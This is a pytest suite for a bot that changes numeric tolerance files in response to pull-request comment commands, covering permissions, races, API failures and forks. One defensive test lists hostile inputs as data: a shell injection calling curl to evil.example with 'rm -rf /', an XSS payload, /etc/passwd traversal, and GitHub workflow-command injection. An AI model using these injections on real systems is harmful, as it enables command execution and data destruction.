"""Commands by comment, from the event to commit, reply and check: a real server, real git."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import msgspec
import pytest
from github_desk import KERNEL, NOTE, PATH, RELU, ROLES, SOFTMAX, WIDEN, Desk, desk, scrubbed
from github_site import CHANGED, CORPUS, approved_cell, claims, rows, trusted
from github_support import hub
from tests_support import make_run

from tolcal import history, tolerances
from tolcal.github import command
from tolcal.github.client import ApiError
from tolcal.github.settings import Job
from tolcal.model import AllClose, TolcalError, Values

__all__ = ["desk", "hub", "trusted"]  # fixtures

APPROVE = "/tolcal approve {digest}"
NO_WORKFLOWS = (
    "This commit was made with GITHUB_TOKEN, and such commits start no workflows: tolcal's check "
    "is on the new head, other required checks are not. With an App's token as the action's input "
    "`token` they run; or close and reopen this pull request, or push to it."
)
APPROVED = f"""\
Approved for `write`: 1 cell (`softmax/float32`) in \
[`SHA`](https://github.example/octo/kernels/commit/SHA).

{NO_WORKFLOWS}"""


def untouched(desk: Desk) -> bool:
    """Whether the pull request is as its author left it."""
    return desk.pull.head_sha == desk.measured and desk.git("ls-tree", "main") != ""


def test_the_whole_round_trip_as_a_process(desk: Desk) -> None:
    """A regression blocks; a maintainer widens by comment; the check of the new head is green."""
    assert desk.report(desk.run) == 1
    assert desk.said(desk.pull) == ("completed", "failure")
    digest = desk.digest
    line = WIDEN.format(digest=digest)
    comment = desk.say("maintain", f"{line}\r\n\r\nThanks for the measurements!")
    status, printed = desk.process_command(comment)
    assert (status, printed) == (
        0,
        "tolcal: pull request 41: success: no regressions. 1 tolerance can tighten.\n",
    )
    assert desk.reactions(comment) == ["rocket"]
    assert scrubbed(desk, desk.reply(comment)) == (
        "Widened for `maintain` because the sum is in another order: 1 cell (`relu/float32`) in "
        f"[`SHA`](https://github.example/octo/kernels/commit/SHA).\n\n{NO_WORKFLOWS}"
    )
    # What is in the file
    widened = desk.cells[RELU]
    mark = widened.approved
    assert mark is not None
    assert (mark.by, mark.pr, mark.digest, mark.reason) == (
        "maintain", 41, digest, "the sum is in another order",
    )  # fmt: skip
    assert mark.value == widened.value_digest
    assert widened.evidence
    assert widened.evidence.runs == 20
    before = tolerances.of_text(desk.before, PATH)
    assert desk.cells == before | {RELU: widened}
    assert desk.file.startswith(NOTE)
    softmax = desk.before[desk.before.index("[softmax.float32]") :]
    assert softmax in desk.file  # byte for byte
    # What is in git
    message = desk.git("log", "-1", "--format=%an%n%P%n%B", desk.pull.head_sha)
    bot, parent, subject, *_ = message.split("\n")
    assert (bot, parent) == ("github-actions[bot]", desk.measured)
    assert subject == "Widen 1 tolerance"
    assert "another order" not in message  # words of a comment are none of a commit's
    assert f"Tolcal-Comment: {comment.id}\nTolcal-By: maintain\n" in message
    assert desk.git("diff", "--name-only", desk.measured, desk.pull.head_sha) == f"{PATH}\n"
    # What became of the pull request
    assert desk.said(desk.pull) == ("completed", "success")
    (shown,) = [c for c in desk.comments if c.body.startswith("<!-- tolcal:v1 ")]
    assert "no regressions. 1 tolerance can tighten" in shown.body


# --- who ------------------------------------------------------------------------------------

DONE = re.compile(r"(Approved|Widened|Rejected|Measuring|As the first|\*\*)")
MATRIX = {
    "/tolcal help": ("none", "read", "triage", "write", "maintain", "admin", "alice"),
    "/tolcal explain relu/float32": ("read", "triage", "write", "maintain", "admin", "alice"),
    "/tolcal status": ("read", "triage", "write", "maintain", "admin", "alice"),
    "/tolcal reject {digest}": ("write", "maintain", "admin", "alice"),
    WIDEN: ("maintain", "admin"),
    APPROVE: ("write", "maintain", "admin", "alice"),
    "/tolcal rerun": ("write", "maintain", "admin", "alice"),
}


@pytest.mark.parametrize("who", [*ROLES, "alice"])
def test_each_command_by_each_role(desk: Desk, who: str) -> None:
    """Complaint 17, 18: by the collaborators endpoint, and always with the reason in the reply."""
    if who == "none":
        desk.hub.main.private = True
    for line, may in MATRIX.items():
        comment = desk.say(who, line)
        said = desk.handle(comment)
        assert bool(DONE.match(said)) == (who in may), (line, said)
        if who not in may:
            verb = line.split()[1]
            least = "maintain" if verb == "widen" else "write"
            least = "read" if verb in ("explain", "status") else least
            expected = f"Not done: {verb} needs the role {least} on this repository, and `{who}`"
            if who == "alice":
                expected = "Not done: alice may not widen tolerances here: they opened this pull "
            assert said.startswith(expected), said
            assert desk.reactions(comment) == ["confused"]
        del desk.hub.main.comments[comment.id]  # withdraws a rejection
    assert untouched(desk) == (who in ("none", "read", "triage"))


def test_bots_are_not_listened_to(desk: Desk) -> None:
    """Not even this one, and not one with a user's type or name; no call is made."""
    for login, kind in (("github-actions[bot]", "Bot"), ("x[bot]", "User"), ("robot", "Bot")):
        comment = desk.say(login, "/tolcal help")
        comment.author.kind = kind
        assert desk.handle(comment) == ""
        assert desk.hub.calls == []


def test_an_author_may_widen_where_the_input_says_so(desk: Desk) -> None:
    """Attack 6: a repository of one person, and the reply says what that was."""
    said = desk.ask("alice", WIDEN, self_approval=True)
    assert (
        "**Widened by an author**: they opened this pull request, which this repository lets pass"
    ) in said
    assert desk.said(desk.pull) == ("completed", "success")
    # A job without the input does not count it.
    assert desk.judged.refused == {RELU: "alice may not widen it: they opened this pull request"}


def test_an_account_that_took_a_name_has_no_rights_of_it(desk: Desk) -> None:
    """By user id: logins change hands."""
    comment = desk.say("admin", APPROVE)
    comment.author = namesake(comment.author)
    said = desk.handle(comment)
    assert (
        said == "Not done: approve needs the role write on this repository, and `admin` has none."
    )


def namesake(user: Any) -> Any:
    """An account of the same name with another id."""
    return type(user)(user.id + 10_000, user.login)


# --- what is no command ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "action"),
    [
        (APPROVE, "edited"),
        (APPROVE, "deleted"),
        ("> " + APPROVE, "created"),
        (f"```\n{APPROVE}\n```", "created"),
        (f"    {APPROVE}", "created"),
        (f"\n{APPROVE}", "created"),
        ("LGTM", "created"),
    ],
)
def test_nothing_but_new_comments_first_line(desk: Desk, body: str, action: str) -> None:
    """Attack 8: an edit, a quote, a code block, a later line; not one call is made."""
    assert desk.handle(desk.say("admin", body), action) == ""
    assert desk.hub.calls == []
    assert untouched(desk)


def test_a_comment_that_was_edited_before_its_turn(desk: Desk) -> None:
    """Attack 8: what the event holds is not what stands there any more."""
    comment = desk.say("admin", "/tolcal help")
    job = desk.hub.job("issue_comment", desk.event(comment))
    desk.hub.edit(comment, APPROVE.format(digest=desk.digest))
    assert command.run(desk.client(), desk.inputs, job) == 0
    assert desk.reply(comment) == (
        "Not done: the comment was edited; what is asked for takes a new one."
    )
    del desk.hub.main.comments[comment.id]
    assert command.run(desk.client(), desk.inputs, job) == 0
    assert untouched(desk)


@pytest.mark.parametrize(
    "argument",
    [
        "approve " + "x" * 10_000,
        "approve $(curl https://evil.example) `id` && rm -rf /",
        "approve <img src=x onerror=alert(1)> @maintain #1 [x](https://evil.example)",
        "approve 9c1e7a40d2b86f13 | x |\x1b[31m",
        "\u0430pprove 9c1e7a40d2b86f13",
        "approve 9c1e7a40d2b86f13 ../../../etc/passwd",
        "explain softmax/float16%0a::error::x",
        "::set-output name=x::y",
    ],
)
def test_hostile_arguments_get_help(desk: Desk, argument: str) -> None:
    """Attacks 10, 11, 16: shell, Markdown, look-alikes, 10 kB: quoted inert, and help."""
    said = desk.ask("read", f"/tolcal {argument}")
    first, _, rest = said.partition("\n")
    assert first.startswith("Not understood: ")
    assert len(first) < 4000
    assert not re.search(r"[<>`|@]|https:|\x1b|^::", first)
    assert rest.strip().startswith("As the first line of a new comment:")


def test_other_events_are_a_mistake_of_the_workflow(desk: Desk) -> None:
    """Complaint 10: the number is the issue's; an issue that is no pull request is passed by."""
    job = desk.hub.job("pull_request", {})
    with pytest.raises(TolcalError, match="is for the event issue_comment, not pull_request"):
        command.run(desk.client(), desk.inputs, job)
    event = desk.event(desk.say("admin", APPROVE))
    assert "pull_request" not in event
    del event["issue"]["pull_request"]
    assert command.of_event(desk.hub.job("issue_comment", event)) == "#41 is no pull request"
    for broken in ({}, {"issue": 3, "comment": {}}, {"issue": {"number": "41"}, "comment": {}}):
        with pytest.raises(TolcalError, match="the event"):
            command.of_event(desk.hub.job("issue_comment", broken))


def test_a_closed_pull_request_stays_as_it_is(desk: Desk) -> None:
    """Complaint 21."""
    comment = desk.say("admin", APPROVE)
    desk.pull.state = "closed"
    assert desk.handle(comment) == "Not done: pull request 41 is closed; reopen it first."


# --- bound to a state -----------------------------------------------------------------------


def test_the_same_command_twice_is_harmless(desk: Desk) -> None:
    """The second reply says that it was done, by whom, and where."""
    digest = desk.digest
    line = f"/tolcal approve {digest}"
    first = desk.say("write", line)
    assert scrubbed(desk, desk.handle(first)) == APPROVED
    head, replies = desk.pull.head_sha, len(desk.comments)
    said = desk.ask("maintain", line)
    mark = desk.cells[SOFTMAX].approved
    assert mark
    assert scrubbed(desk, said) == (
        f"Done already: `DIGEST` was approved by `write` at {mark.at} in "
        "[`SHA`](https://github.example/octo/kernels/commit/SHA)."
    )
    assert head[:7] in said
    assert desk.handle(first) == desk.reply(first)  # the job runs again
    assert desk.pull.head_sha == head
    assert len(desk.comments) == replies + 1
    assert scrubbed(desk, desk.reply(first)) == APPROVED


def push(desk: Desk) -> None:
    """Somebody pushes another kernel."""
    desk.hub.push(desk.pull, {KERNEL: CHANGED.replace("1.0", "2.0")})


def retarget(desk: Desk) -> None:
    """The pull request gets another base, with another file."""
    main = desk.hub.main
    old = desk.git("rev-parse", "main~1").strip()
    main.git.update("refs/heads/release", old)
    desk.pull.base_branch = "release"
    desk.hub.state.sync(desk.pull)


def close(desk: Desk) -> None:
    """Somebody closes it."""
    desk.pull.state = "closed"


@pytest.mark.parametrize(
    ("call", "action", "why"),
    [
        ("GET pulls/41", push, "the head was pushed to meanwhile, "),
        ("GET pulls/41", retarget, "the base changed meanwhile, main "),
        ("GET pulls/41", close, "it was closed meanwhile; nothing was written"),
        ("GET contents/tolerances.toml", push, "the head was pushed to meanwhile, "),
        ("POST git/trees", push, "the head was pushed to meanwhile, "),
        ("PATCH git/refs/heads/feature", push, "the head was pushed to meanwhile, "),
    ],
)
def test_approve_then_push(desk: Desk, call: str, action: Callable[[Desk], None], why: str) -> None:
    """Attack 7: between the judging and the write, at whatever moment: nothing is written."""
    comment = desk.say("write", APPROVE)
    desk.hub.on(call, lambda: action(desk), after=0 if call.startswith(("P", "GET c")) else 1)
    said = desk.handle(comment)
    assert said.startswith(f"Not done: {why}"), said
    assert desk.git("log", "--format=%an", "feature").split("\n")[0] != "github-actions[bot]"
    assert desk.cells[SOFTMAX] == tolerances.of_text(desk.before, PATH)[SOFTMAX]


def stale(desk: Desk, digest: str) -> str:
    """The reason in the reply to an approval of that digest."""
    said = desk.ask("write", f"/tolcal approve {digest}")
    found = re.match(
        rf"Not done: `{digest}` is not the present proposal, which is `[0-9a-f]{{16}}`: (.*)\.\n",
        said,
    )
    assert found, said
    assert f"/tolcal approve {desk.digest}\n" in said  # the line to copy now
    return found[1]


def test_a_stale_digest_names_what_changed(desk: Desk) -> None:
    """Attack 7: the head, the history, the base's tolerances; or it is of no proposal here."""
    old = desk.digest
    desk.report(desk.run)
    run = make_run(id="00000000000000bb", started="2026-04-30T00:00:00+00:00", origin="ingest")
    history.add(desk.folder / "history", rows(run, range(50_000, 50_040)))
    assert stale(desk, old) == "the history has other records by now"
    desk.report(desk.run)
    newer = desk.digest
    push(desk)
    again = desk.measure(desk.pull, claims(1, relu_triton=claims()[1].stats))
    reason = stale(desk, newer)
    assert reason == (
        f"the head changed, from {desk.measured[:7]} that it was made for to "
        f"{desk.pull.head_sha[:7]}"
    ) or reason.startswith("the head changed, from "), reason
    desk.report(again)
    moved = tolerances.edited(desk.before, {RELU: approved_cell(2.0**-23)}, PATH)
    main = desk.hub.main
    main.commit("main", {PATH: moved})
    third = desk.digest
    tip = desk.git("rev-parse", "main").strip()
    desk.git("update-ref", "refs/heads/feature", desk.git(
        "commit-tree", "-p", desk.pull.head_sha, "-p", tip, "-m", "merge",
        desk.git("merge-tree", "--write-tree", desk.pull.head_sha, tip).strip(),
    ).strip())  # fmt: skip
    desk.hub.state.sync(desk.pull)
    desk.measure(desk.pull, claims(1))
    assert "the tolerances in force changed" in stale(desk, third)
    nowhere = "it is of no proposal of this pull request's commits: mistyped, another pull"
    assert stale(desk, "0123456789abcdef").startswith(nowhere)


def test_a_digest_of_another_pull_request(desk: Desk) -> None:
    """It approves nothing here, though both propose the same."""
    other = desk.hub.pull("other", files={KERNEL: CHANGED + "# other\n"}, author="bob")
    desk.measure(other, claims(1))
    foreign = desk.digest
    comment = desk.hub.comment(other, "write", f"/tolcal approve {foreign}")
    said = desk.handle(comment)
    assert "another pull request's" in said
    assert "Not done" in said
    assert untouched(desk)


def test_part_of_a_proposal(desk: Desk) -> None:
    """Named cells alone; what was approved makes another state, which has its own digest."""
    digest = desk.digest
    assert desk.ask("write", f"/tolcal approve {digest} relu") == (
        "Not done: relu: it would be looser, which needs &#96;/tolcal widen "
        f"{digest} OP/DTYPE because REASON&#96;."
    )
    assert desk.ask("maintain", f"/tolcal widen {digest} softmax/float32 because x") == (
        f"Not done: softmax/float32: new or tighter, so &#96;/tolcal approve {digest}&#96; takes "
        "it."
    )
    assert desk.ask("maintain", f"/tolcal widen {digest} gelu/float32 because x") == (
        "Not done: gelu/float32: no cell of that name in the proposal; did you mean 'relu/float32'?"
    )
    assert untouched(desk)
    desk.ask("write", f"/tolcal approve {digest} softmax/float32")
    said = desk.ask("maintain", f"/tolcal widen {digest} relu/float32 because x")
    sha = desk.pull.head_sha[:7]
    assert said.startswith(
        f"Not done: `{digest}` is not the present proposal, which is `{desk.digest}`: write "
        f"approved cells of it in {sha}, which made another state of it; "
    ), said
    desk.ask("maintain", WIDEN)
    here = {cell for cell, t in desk.cells.items() if t.approved and t.approved.pr == 41}
    assert here == {SOFTMAX, RELU}
    assert desk.said(desk.pull) == ("completed", "success")


def test_a_rejected_proposal_cannot_be_approved(desk: Desk) -> None:
    """As long as the rejecting comment stands; whoever may not reject, has not rejected."""
    digest = desk.digest
    desk.handle(desk.say("read", f"/tolcal reject {digest}"))
    no = desk.say("maintain", f"/tolcal reject {digest} because *this* is too tight for @me")
    assert desk.handle(no) == (
        f"Rejected: `{digest}`, by `maintain` because &#42;this&#42; is too tight for "
        "&#64;\u200dme. Nobody can approve it while that comment stands as it is; the next push, "
        "or a newer history, brings another proposal."
    )
    said = desk.ask("admin", f"/tolcal approve {digest}")
    assert said.startswith("Not done: `maintain` has [rejected](")
    assert "&#42;this&#42;" in said
    assert untouched(desk)
    del desk.hub.main.comments[no.id]
    assert desk.ask("admin", f"/tolcal approve {digest}").startswith("Approved for `admin`")


def test_two_maintainers_at_once(desk: Desk) -> None:
    """One commit; the slower one's reply names the quicker one."""
    line = f"/tolcal approve {desk.digest}"
    slow, quick = desk.say("write", line), desk.say("maintain", line)
    job = desk.hub.job("issue_comment", desk.event(quick))
    desk.hub.on(
        "PATCH git/refs/heads/feature", lambda: command.run(desk.client(), desk.inputs, job)
    )
    said = desk.handle(slow)
    assert said.startswith("Done already: ")
    assert "was approved by `maintain` at " in said
    assert desk.git("log", "--format=%an", f"{desk.measured}..feature") == "github-actions[bot]\n"
    assert desk.reply(quick).startswith("Approved for `maintain`")


def test_two_maintainers_with_other_cells_at_once(desk: Desk) -> None:
    """The slower one's cells are of another state by then, and are not written."""
    digest = desk.digest
    slow = desk.say("maintain", f"/tolcal widen {digest} relu/float32 because x")
    job = desk.hub.job(
        "issue_comment", desk.event(desk.say("write", f"/tolcal approve {digest} softmax"))
    )
    desk.hub.on(
        "PATCH git/refs/heads/feature", lambda: command.run(desk.client(), desk.inputs, job)
    )
    assert desk.handle(slow).startswith("Not done: the head was pushed to meanwhile, ")
    assert desk.cells[RELU] == tolerances.of_text(desk.before, PATH)[RELU]


# --- failures of the API --------------------------------------------------------------------


#: What an approval changes, in its order: the reply is the first comment made.
EFFECTS = (
    "POST git/trees",
    "POST git/commits",
    "PATCH git/refs/heads/feature",
    "POST issues/41/comments",
    "PATCH check-runs/*",
)


def dies(desk: Desk, call: str, *, effect: bool, job: Job) -> None:
    """The command's job, where the API dies at that call: before its effect, or just after it."""
    desk.hub.fail(call, times=1, effect=effect, status="drop")
    dead = desk.hub.fail("nothing", times=10_000)
    desk.hub.on(call, lambda: setattr(dead, "call", "*"))
    with pytest.raises(ApiError):
        command.run(desk.client(), desk.inputs, job)
    desk.hub.faults.clear()
    desk.hub.hooks.clear()


def test_the_api_may_fail_at_each_step(desk: Desk) -> None:
    """Before or after its effect: nothing is ever half done, and a re-run goes on from there."""
    desk.report(desk.run)
    comment = desk.say("write", APPROVE)
    job = desk.hub.job("issue_comment", desk.event(comment))
    for call in EFFECTS:
        for effect in (False, True):
            dies(desk, call, effect=effect, job=job)
            written = call not in EFFECTS[:3] or (call == EFFECTS[2] and effect)
            assert (desk.pull.head_sha != desk.measured) == written, (call, effect)
            assert (desk.file != desk.before) == written
    assert command.run(desk.client(), desk.inputs, job) == 0
    assert scrubbed(desk, desk.reply(comment)) == APPROVED
    assert desk.reactions(comment) == ["rocket"]
    assert desk.git("rev-list", "--count", f"{desk.measured}..feature") == "1\n"
    assert desk.said(desk.pull) == ("completed", "failure")
    assert len(desk.comments) == 2  # the report's and the reply


def test_reading_may_fail_as_well(desk: Desk) -> None:
    """No call before the verdict has an effect."""
    comment = desk.say("write", APPROVE)
    job = desk.hub.job("issue_comment", desk.event(comment))
    for after in (0, 2, 5, 8):
        desk.hub.fail("*", after=after, times=10_000)
        with pytest.raises(ApiError):
            command.run(desk.client(), desk.inputs, job)
        desk.hub.faults.clear()
        assert untouched(desk)
        assert desk.reply(comment) == ""


def test_a_failure_is_said_where_it_can_be(desk: Desk) -> None:
    """Complaint 15: a fault of GitHub's is called that, in the reply as well."""
    comment = desk.say("write", APPROVE)
    job = desk.hub.job("issue_comment", desk.event(comment))
    desk.hub.fail("POST git/trees", times=100)
    with pytest.raises(ApiError, match="POST git/trees"):
        command.run(desk.client(), desk.inputs, job)
    said = desk.reply(comment)
    assert said.startswith("This stopped on the way: POST git/trees of octo/kernels at ")
    assert "a fault of GitHub's" in said
    assert said.endswith("or comment again, and it goes on from there.")
    assert desk.reactions(comment) == ["confused"]


def test_a_missing_permission_is_named(desk: Desk) -> None:
    """Complaint 15, 17: with `contents: read` the commit is refused, and the reply says why."""
    comment = desk.say("write", APPROVE)
    job = desk.hub.job("issue_comment", desk.event(comment))
    desk.hub.grants = dict.fromkeys(
        ("actions", "contents", "metadata", "pull_requests", "issues", "checks"), "read"
    ) | {"pull_requests": "write"}  # fmt: skip
    with pytest.raises(ApiError, match="403"):
        command.run(desk.client(), desk.inputs, job)
    assert "give the job's token the permission &#96;contents: write&#96;" in desk.reply(comment)
    assert untouched(desk)


def test_reactions_are_a_nicety(desk: Desk) -> None:
    """Without `issues: write` the reply has to do."""
    desk.hub.fail("POST issues/comments/*/reactions", status=403, message="Resource not accessible")
    assert desk.ask("read", "/tolcal help").startswith("As the first line")


# --- forks ----------------------------------------------------------------------------------


@pytest.fixture
def fork(desk: Desk) -> Desk:
    """The pull request is from a fork of bob's."""
    desk.pull.state = "closed"
    source = desk.hub.fork("bob")
    desk.pull = desk.hub.pull("patch", files={KERNEL: CHANGED}, author="bob", fork=source)
    desk.measured = desk.pull.head_sha
    desk.run = desk.measure(desk.pull, claims(1))
    return desk


def test_a_fork_gets_a_pull_request_of_its_own(fork: Desk) -> None:
    """A branch of the base repository, linked; a second part goes to the same one."""
    digest = fork.digest
    comment = fork.say("write", f"/tolcal approve {digest} softmax")
    said = scrubbed(fork, fork.handle(comment))
    assert said == (
        "Approved for `write`: 1 cell (`softmax/float32`) in [`SHA`](https://github.example/octo/"
        "kernels/commit/SHA): https://github.example/octo/kernels/pull/43.\n\n"
        "The head is in a fork (`bob/kernels`), to which this job can't push. Merge that pull "
        "request into `main`, then bring it in here (**Update branch**): from then on the values "
        "count. A pull request opened with GITHUB_TOKEN starts no workflows until somebody closes "
        "and reopens it; with an App's token as the action's input `token` they start."
    )
    opened = fork.hub.main.pulls[43]
    branch = f"tolcal/approve-42-{digest}"
    assert (opened.head_branch, opened.base_branch, opened.title) == (
        branch, "main", "Tolerances approved in #42",
    )  # fmt: skip
    assert fork.pull.head_sha == fork.measured
    first = tolerances.of_text(fork.git("show", f"{branch}:{PATH}"), PATH)
    mark = first[SOFTMAX].approved
    assert mark
    assert (mark.by, mark.pr, mark.digest) == ("write", 42, digest)
    # Again, by somebody else
    again = fork.ask("maintain", f"/tolcal approve {digest} softmax")
    assert again.startswith(
        f"Done already: `{digest}` was approved by `write` at {mark.at} in http"
    )
    # And the other part
    fork.ask("maintain", f"/tolcal widen {digest} relu/float32 because x")
    assert len(fork.hub.main.pulls) == 3
    second = tolerances.of_text(fork.git("show", f"{branch}:{PATH}"), PATH)
    assert second[SOFTMAX] == first[SOFTMAX]
    assert second[RELU].approved
    assert second[RELU].approved.by == "maintain"
    assert fork.git("rev-list", "--count", f"main..{branch}") == "2\n"


def test_a_fork_that_is_pushed_to_meanwhile(fork: Desk) -> None:
    """Attack 7, for forks: the head is read again just before the branch is made."""
    comment = fork.say("write", APPROVE)
    fork.hub.on("GET pulls/42", lambda: push(fork), after=1)
    assert fork.handle(comment).startswith("Not done: the head was pushed to meanwhile, ")
    assert fork.git("branch", "--list", "tolcal/*") == ""


def test_a_forks_approval_goes_on_where_it_stopped(fork: Desk) -> None:
    """The branch is made, the pull request not yet: a retry opens it, once."""
    comment = fork.say("write", APPROVE)
    job = fork.hub.job("issue_comment", fork.event(comment))
    dies(fork, "POST git/refs", effect=True, job=job)
    dies(fork, "POST pulls", effect=False, job=job)
    dies(fork, "POST pulls", effect=True, job=job)
    assert command.run(fork.client(), fork.inputs, job) == 0
    assert len(fork.hub.main.pulls) == 3
    assert fork.git("rev-list", "--count", "main..tolcal/approve-42-" + fork.digest) == "1\n"
    assert fork.reply(comment).startswith("Approved for `write`: 1 cell (`softmax/float32`) in ")


def test_a_fork_whose_base_has_moved(fork: Desk) -> None:
    """The base branch's cell is another by now: the proposal was compared with the merge base's."""
    comment = fork.say("write", APPROVE)
    text = tolerances.edited(fork.before, {SOFTMAX: approved_cell(2.0**-23)}, PATH)
    fork.hub.main.commit("main", {PATH: text})
    assert fork.handle(comment) == (
        "Not done: tolerances.toml: softmax/float32 is not what the proposal was compared with; "
        "update the branch from its base and let it be measured again."
    )


# --- the file -------------------------------------------------------------------------------


def test_a_file_that_the_author_broke_is_not_edited(desk: Desk) -> None:
    """The reply names its line."""
    desk.hub.push(desk.pull, {PATH: desk.before + "[gelu.float16]\natol = 'x'\n"})
    desk.measure(desk.pull, claims(1))
    desk.measured = desk.pull.head_sha
    said = desk.ask("write", APPROVE)
    assert re.fullmatch(r"Not done: tolerances.toml:\d+: gelu.float16.atol: .*\.", said), said
    assert untouched(desk)


def test_overrides_by_hand_are_not_approved_along(desk: Desk) -> None:
    """Attack 4: what the author wrote under the cell would be kept, and covered."""
    wide = tolerances.of_text(desk.before, PATH)[SOFTMAX]
    looser = Values(1.0, 1.0, AllClose(1.0, 1.0))
    on = msgspec.structs.replace(wide, on={"sm_90": looser})
    desk.hub.push(desk.pull, {PATH: tolerances.edited(desk.before, {SOFTMAX: on}, PATH)})
    desk.measured = desk.pull.head_sha
    desk.measure(desk.pull, claims(1))
    said = desk.ask("write", APPROVE)
    assert said == (
        "Not done: tolerances.toml: softmax/float32: its overrides for single devices were changed "
        "by hand in this pull request, and an approval would cover them; restore them first."
    )
    assert untouched(desk)


def test_cells_that_the_corpus_lacks_are_left_out(desk: Desk) -> None:
    """The pull request deletes softmax: `tolcal check` would refuse a cell of it."""
    gone = dict.fromkeys(path for path in CORPUS if path.startswith("corpus/softmax/"))
    desk.hub.push(desk.pull, gone)
    desk.measured = desk.pull.head_sha
    records = [r for r in claims(1) if r.case.op == "relu"]
    desk.measure(desk.pull, records)
    assert desk.ask("write", APPROVE) == (
        "Not done: softmax/float32: not in the corpus of this pull request."
    )
    assert untouched(desk)


# --- asking ---------------------------------------------------------------------------------


def test_status(desk: Desk) -> None:
    """What can be done, what counts and what does not."""
    desk.ask("write", f"{APPROVE} softmax")
    approved = desk.pull.head_sha
    desk.hub.push(
        desk.pull, {PATH: desk.file.replace("atol = 1.4901161193847656e-08", "atol = 1.0")}
    )
    desk.measure(desk.pull, claims(1))
    said = desk.ask("read", "/tolcal status")
    at = desk.cells[SOFTMAX].approved
    assert at
    assert scrubbed(desk, said) == (
        "**1 regression.** Head `SHA`, proposal `DIGEST`.\n\n"
        "In it: 1 cell that would be looser.\n\n"
        f"```\n/tolcal widen {desk.digest} relu/float32 because ...\n```\n\n"
        "Approved on this head, and counted:\n\n"
        f"- `softmax/float32`: approved by `write` at {at.at} in #41\n\n"
        "On this head and **not counted**:\n\n"
        "- `relu/float32`: no approval of proposal 9c1e7a40d2b86f13 by a comment on this pull "
        "request; values that were approved elsewhere count once they are merged"
    )
    assert approved[:7] not in said


def test_explain(desk: Desk) -> None:
    """Why this number: rows, runs, devices, the worst case with the line that replays it."""
    said = desk.ask("read", "/tolcal explain relu/float32")
    assert re.sub(r"relu_triton:[0-9a-f]{16}", "relu_triton:CASE", said) == (
        "**`relu/float32`**\n\n"
        "- in force: residual at most 1.49012e-08 + 0 u (&#124;ref&#124; + sigma), bias at most "
        "0.31; approved by `a-maintainer` at 2026-04-01T10:12:00+00:00 in #7\n"
        "- it rests on 800 rows of 20 runs on NVIDIA H200; 0 of 20 held-out runs red (at most "
        "14.0 % of runs, 95 % confidence); detectable recall -\n"
        "- proposed (looser): residual at most 4.48e-08 + 0 u (&#124;ref&#124; + sigma), bias at "
        "most 0.01; of the error at the median element 7.5e-8 is allowed now, 1.0e-7 "
        "proposed (1.4x looser)\n"
        "- from 800 rows of 20 runs on NVIDIA H200; 0 of 20 held-out runs red (at most 14.0 % of "
        "runs, 95 % confidence); detectable recall -\n"
        "- worst case of a control: `relu_triton` at `B=1 S=7 H=256` needs 0.5 of what is "
        "proposed; `tolcal replay relu_triton:CASE`\n"
        "- here: regression of `relu_triton` in 6 of 6 cases, worst at `B=1 S=7 H=256`; `tolcal "
        "replay relu_triton:CASE`"
    )
    assert desk.ask("read", "/tolcal explain relu/float16") == (
        "Not done: relu/float16: neither approved nor in the history; did you mean 'relu/float32'?"
    )


def test_rerun(desk: Desk) -> None:
    """The measuring run of the head, once; also when an approval stands above it."""
    desk.ask("write", APPROVE)
    said = desk.ask("write", "/tolcal rerun")
    link = f"{desk.hub.api.url}/octo/kernels/actions/runs/{desk.run.id}"
    head = desk.measured[:7]
    assert said == f"Measuring `{head}` again: [attempt 2]({link})."
    assert (desk.run.status, desk.run.attempt) == ("queued", 2)
    assert desk.ask("write", "/tolcal rerun") == f"[Attempt 2]({link}) of `{head}` is on its way."
    push(desk)
    assert desk.ask("write", "/tolcal rerun") == (
        f"Not done: no run of .github/workflows/tolcal.yml has measured {desk.pull.head_sha[:7]}; "
        "push, or close and reopen the pull request, to start one."
    )


def test_without_a_measurement_there_is_nothing_to_approve(desk: Desk) -> None:
    """Nor to explain: the reply says what is missing."""
    push(desk)
    said = desk.ask("read", "/tolcal status")
    assert said.startswith("Not done: tolcal.yml has not run for ")
